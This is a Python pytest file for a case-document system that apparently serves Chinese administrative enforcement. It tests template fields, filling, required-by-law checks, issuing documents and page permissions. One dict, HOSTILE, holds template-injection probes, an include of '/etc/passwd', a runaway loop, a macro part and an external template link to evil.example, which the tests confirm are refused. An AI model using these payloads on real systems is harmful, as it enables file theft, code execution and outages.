"""Every document of a case: its template is right, its fields are filled, what an article demands is never missing."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from accounts import member
from handling.cases.story import FACT, Bureau, Story
from kit.documents.specimen import changed, put, word
from registry import district
from zhiheng.handling.cases.papers import inner_kinds, papers
from zhiheng.kit.accounts.models import User
from zhiheng.kit.documents import making, reading
from zhiheng.kit.documents.environment import written
from zhiheng.kit.documents.fields import SLOT_OPEN, FieldKind, encode, samples, schema
from zhiheng.kit.documents.filling import fill, texts_of
from zhiheng.kit.documents.models import Document
from zhiheng.kit.documents.registry import Subject
from zhiheng.kit.files import sandbox
from zhiheng.kit.files.foreign.tasks import TASKS
from zhiheng.kit.pages.forms.once import new_key
from zhiheng.kit.problems import Refusal
from zhiheng.law.library import vocabulary
from zhiheng.law.library.procedures import procedure_for, procedures_about
from zhiheng.ledger.models import LedgerEvent

TODAY = district.today()
ISSUED = 20
"""So many at least are issued by acts; the others are made on the case's page."""
USUAL = 30
"""So many documents does the ordinary procedure usually have (issue of the cases)."""


@pytest.fixture
def same_process(monkeypatch: pytest.MonkeyPatch) -> None:
    """Let the limited process's tasks run here: several times faster, its walls have tests of their own."""

    def ask(task: str, path: Path, **arguments: Any) -> Iterator[Any]:
        arguments.setdefault("name", path.name)
        return iter(list(TASKS[task](path, arguments)))

    monkeypatch.setattr(sandbox, "ask", ask)


def test_there_are_the_usual_documents_each_with_a_code_and_items_of_the_vocabulary() -> None:
    codes = vocabulary().codes
    assert len(papers) >= USUAL
    for one in papers.values():
        assert one.of in codes["document_kind"], one.kind.key
        assert set(one.items) <= set(codes["document_item"]), one.kind.key
        assert any(field.required and field.basis for field in one.kind.own_fields), one.kind.key


def test_every_document_that_a_procedure_names_is_declared_among_the_documents_of_a_case() -> None:
    ordinary, simple = procedure_for("case", "ordinary", TODAY), procedure_for("case", "simple", TODAY)
    assert ordinary is not None and simple is not None
    parts = [one for about in ("measure", "enforcement") for one in procedures_about(about, TODAY)]
    named = {one.key: {act.paper for act in one.acts.values() if act.paper} for one in (ordinary, simple, *parts)}
    assert set().union(*named.values()) - papers.keys() == set()
    assert len(named[ordinary.key]) >= ISSUED
    assert all(named.values())


TWO = 2
WRITTEN_ON_SPOT = ("coercion-record", "coercion-inventory")
"""What both officers and the party sign on the spot (行政强制法第十八条、第二十四条)."""


@pytest.mark.parametrize("key", WRITTEN_ON_SPOT)
def test_what_is_written_on_the_spot_has_places_for_the_party_two_officers_and_a_witness(key: str) -> None:
    places = {one.key: one for one in papers[key].kind.own_fields if one.kind is FieldKind.SIGNATURE}
    assert (places["party_sign"].required, places["party_sign"].basis) == (True, "行政强制法第十八条")
    assert places["officer_sign"].least == TWO
    assert not places["witness_sign"].required, "a witness signs where the party doesn't"


@pytest.mark.parametrize("key", papers)
def test_a_kind_comes_with_a_template_that_shows_every_field_it_demands(key: str, tmp_path: Path) -> None:
    kind = papers[key].kind
    path = put(tmp_path, kind.starter())
    problems, remarks = reading.check(path, schema(kind.fields))
    assert (problems, remarks) == ([], [])
    shown = "".join(texts_of(path))
    assert [one.title for one in kind.own_fields if one.title not in shown] == []


@pytest.mark.parametrize("key", papers)
def test_a_filled_document_says_all_it_was_given_and_leaves_places_to_sign(key: str, tmp_path: Path) -> None:
    kind = papers[key].kind
    source, target = put(tmp_path, kind.starter()), tmp_path / "filled.docx"
    places = fill(source, target, schema(kind.fields), encode(kind.fields, samples(kind.fields)), TODAY)
    shown = "\n".join(texts_of(target))
    for one in kind.own_fields:
        if one.kind in (FieldKind.TEXT, FieldKind.LONG) and one.sample:
            assert all(line in shown for line in str(one.sample).splitlines()), (key, one.title)
        if one.kind is FieldKind.TABLE:
            assert all(str(written(cell)) in shown for row in one.sample for cell in row.values()), (key, one.title)
    assert sorted(places) == sorted(one.title for one in kind.own_fields if one.kind is FieldKind.SIGNATURE)
    assert SLOT_OPEN not in shown
    assert "{{" not in shown


@pytest.mark.django_db
@pytest.mark.parametrize("key", papers)
def test_no_document_goes_without_what_its_article_demands(key: str) -> None:
    kind = papers[key].kind
    whole = {one.key: one.sample for one in kind.own_fields if one.kind is not FieldKind.SIGNATURE}
    user = member("officer", "U1")
    for field in (one for one in kind.own_fields if one.required and one.kind is not FieldKind.SIGNATURE):
        with pytest.raises(Refusal) as refused:
            making.issue(user, key, Subject("case", "c1", "某案"), "U1", {**whole, field.key: ""}, day=TODAY)
        (problem,) = refused.value.problems
        assert problem.place == field.title
        assert field.basis in problem.what
    assert not Document.objects.filter(object_id="c1").exists()


HOSTILE = {
    "class": word("{{ ''.__class__ }}"),
    "attribute": word("{{ 制发机关.__class__.__mro__ }}"),
    "call": word("{{ 制发机关.format(1) }}"),
    "huge loop": word("{% for x in range(10**9) %}", "{% endfor %}"),
    "half a tag": word("{{ 制发机关 "),
    "unknown field": word("{{ 不存在的字段 }}"),
    "include": word("{% include '/etc/passwd' %}"),
    "macro": changed(word("{{ 制发机关 }}"), word__vbaProjectDOTbin=b"\0"),
    "relationship": changed(
        word("{{ 制发机关 }}"),
        word___rels__documentDOTxmlDOTrels=(
            "</Relationships>",
            '<Relationship Id="rIdX" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" '
            'TargetMode="External"/></Relationships>',
        ),
    ),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_template_is_refused_for_every_kind(name: str, tmp_path: Path) -> None:
    path = put(tmp_path, HOSTILE[name])
    accepted = [key for key, one in papers.items() if not reading.check(path, schema(one.kind.fields))[0]]
    assert accepted == []


# ---- documents that acts issue


def kinds_of(story: Story) -> list[str]:
    """Return the kinds of the case's documents in the order of their making."""
    return list(Document.objects.filter(object_id=story.case).order_by("pk").values_list("kind", flat=True))


def issued(story: Story, name: str, **values: Any) -> tuple[str, dict[str, Any]]:
    """Return the kind of document that an act would issue, and what stands in it."""
    from zhiheng.handling.cases import special

    paper = special.draft(story.wish(name, TODAY, **values)).paper
    assert paper is not None, name
    return paper.kind, dict(paper.values)


def test_acts_issue_their_documents_and_the_ledger_names_each(story: Story, at: Bureau) -> None:
    story.do("investigate", TODAY, kind="inquiry", text="问：……", officers=at.both, certificates_shown=True,
             record_made=True, record_signed=True, asked_party="某某，店主", spot="店内")  # fmt: skip
    story.do("commission-appraisal", TODAY, kind="test", appraiser="示例检验中心", about="酸价")
    story.investigated(TODAY)
    story.do("submit-review", TODAY, reasons=["complex"], complete=True)
    story.do("review", TODAY, at.reviewer, result="agreed", in_writing=True, remark="事实清楚")
    story.told(TODAY, rights_told="both", hearing_reason="large_fine")
    story.do("deliberate", TODAY, result="同意处罚", record_signed=True, chair="局长", discussed="一致同意")
    made = kinds_of(story)
    assert made == [
        "case-filing", "case-inquiry", "case-appraisal", "case-correction", "case-report", "case-review",
        "case-hearing-right", "case-deliberation",
    ]  # fmt: skip
    assert len(story.file.of("document.issued")) == len(made)
    ordered = story.file.last("correction.ordered")
    assert ordered is not None
    assert ordered.objects("document") == tuple(story.file.of("document.issued")[3].objects("document"))


def test_what_is_known_and_what_the_form_says_stands_in_the_document(story: Story, at: Bureau) -> None:
    story.do("add-evidence", TODAY, kind="08", name="现场笔录", proves=[FACT], lawful=True)
    kind, said = issued(story, "conclude", officers=at.both, proposal="penalty", facts=[FACT, "数量十二袋"])
    assert kind == "case-report"
    assert said["facts"] == f"1．{FACT}\n2．数量十二袋"
    assert said["proposal"] == "给予处罚"
    assert said["proofs"] == [{"kind": "勘验笔录或现场笔录", "name": "现场笔录", "proves": FACT}]
    assert said["party"] == "示例食品店"
    assert "（" in said["handlers"], "officers stand there with the numbers of their certificates"
    kind, said = issued(story, "extend", amount=30, unit="d", reason="案情复杂")
    assert (kind, said["length"], said["approver"]) == ("case-extension", "30自然日", "行政机关负责人")
    kind, said = issued(story, "order-correction", kind="correct", until=TODAY)
    assert (kind, said["ordered"]) == ("case-correction", "责令改正。")
    assert "六十日" in said["remedies"]
    kind, said = issued(story, "transfer", reason="不属于本机关管辖", to=at.agency, materials="案卷一册")
    assert kind == "case-transfer"
    assert said["materials"] == "案卷一册"


def test_a_clue_that_is_not_filed_has_its_form_and_a_recorded_act_has_none(at: Bureau) -> None:
    told = Story(at)
    told.open(TODAY)
    told.do("check-clue", TODAY, result="no_file", reason="没有违法事实")
    assert kinds_of(told) == ["case-not-filed"]
    late = Story(at)
    late.filed(TODAY)
    late.record("order-correction", TODAY - timedelta(days=1), kind="correct")
    assert kinds_of(late) == ["case-filing"]


def test_papers_of_the_dossier_are_served_on_nobody(story: Story) -> None:
    from zhiheng.handling.cases import hindering

    story.investigated(TODAY)
    assert [kind for _, kind in hindering.unserved(story.file)] == ["correction"]
    assert {"filing", "record", "notice", "receipt_of_service", "report"} <= inner_kinds()
    assert not {"decision", "no_penalty", "hearing_notice"} & inner_kinds()


# ---- documents that are made on the case's page


def entered(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


def make_url(story: Story, key: str) -> str:
    return reverse("document-make", args=["case", story.case, key])


SAID = {"reason": "证据可能灭失", "keeper": "就地保存", "things": "饼干\t200 克/袋\t12\t袋\t完好"}


def send(client: Client, url: str, **values: object) -> tuple[int, str]:
    data = {"form_key": new_key(), "form_confirmed": "1", "document_day": TODAY.isoformat(), **values}
    answer = client.post(url, data)
    return answer.status_code, answer.content.decode()


def test_a_document_without_an_act_of_its_own_is_made_on_the_page_and_recorded(story: Story, at: Bureau) -> None:
    client, url = entered(at.officer), make_url(story, "case-preservation")
    shown = client.get(reverse("object", args=["case", story.case])).content.decode()
    assert url in shown
    assert send(client, url, **SAID)[0] == 302
    document = Document.objects.get(kind="case-preservation")
    assert str(document.number).endswith("1号")
    last = story.file.last("document.issued")
    assert last is not None
    assert (last.attributes["kind"], last.objects("document")) == ("preservation", (document.public_id,))
    assert {"object_list", "basis"} <= set(last.attributes["items"])


def test_the_page_refuses_faulty_rows_other_days_and_strangers(story: Story, at: Bureau) -> None:
    client, url, before = entered(at.officer), make_url(story, "case-preservation"), LedgerEvent.objects.count()
    status, shown = send(client, url, **{**SAID, "things": "饼干\t盒\t三箱\n\t\t2"})
    assert status == 422
    assert "第 1 行：数量“三箱”不是整数" in shown
    assert "第 2 行：缺少名称" in shown
    status, shown = send(client, url, **SAID, document_day=(TODAY - timedelta(days=2)).isoformat())
    assert status == 409
    assert "制发日期须为今天" in shown
    assert (LedgerEvent.objects.count(), Document.objects.filter(kind="case-preservation").count()) == (before, 0)
    for user in (at.head, at.reviewer, member("officer", at.agency, person="P8"), member("bureau-supervisor", "SF")):
        assert entered(user).get(url).status_code == 404, user
    assert entered(at.officer).get(make_url(story, "case-payment-notice")).status_code == 404, "before a decision"


def test_an_act_shows_its_document_before_it_is_issued(story: Story, at: Bureau, same_process: None) -> None:
    client = entered(at.officer)
    url = reverse("case-act-paper", args=[story.case, "order-correction"])
    before = (LedgerEvent.objects.count(), Document.objects.count())
    answer = client.post(f"{url}?show=1", {"kind": "correct", "ordered": "立即下架"})
    assert answer.status_code == 200
    assert "立即下架" in answer.content.decode()
    whole = client.post(url, {"kind": "correct"})
    assert whole.content[:2] == b"PK"
    assert client.post(url, {"kind": "nonsense"}).status_code == 422
    assert client.post(reverse("case-act-paper", args=[story.case, "add-evidence"]), {}).status_code == 422
    assert entered(at.reviewer).post(url, {"kind": "correct"}).status_code == 404
    assert (LedgerEvent.objects.count(), Document.objects.count()) == before


def test_the_head_sees_the_document_of_a_draft_and_nobody_else_does(
    story: Story, at: Bureau, same_process: None
) -> None:
    proposal = story.propose("withdraw", TODAY, reason="证据不足")
    url = reverse("case-proposal-paper", args=[proposal.public_id])
    shown = entered(at.head).get(f"{url}?show=1").content.decode()
    assert "撤销立案（终止调查）审批表" in shown
    assert "证据不足" in shown
    assert url in entered(at.head).get(reverse("case-proposal", args=[proposal.public_id])).content.decode()
    for user in (at.officer, at.reviewer, member("agency-head", "U9")):
        assert entered(user).get(url).status_code == 404
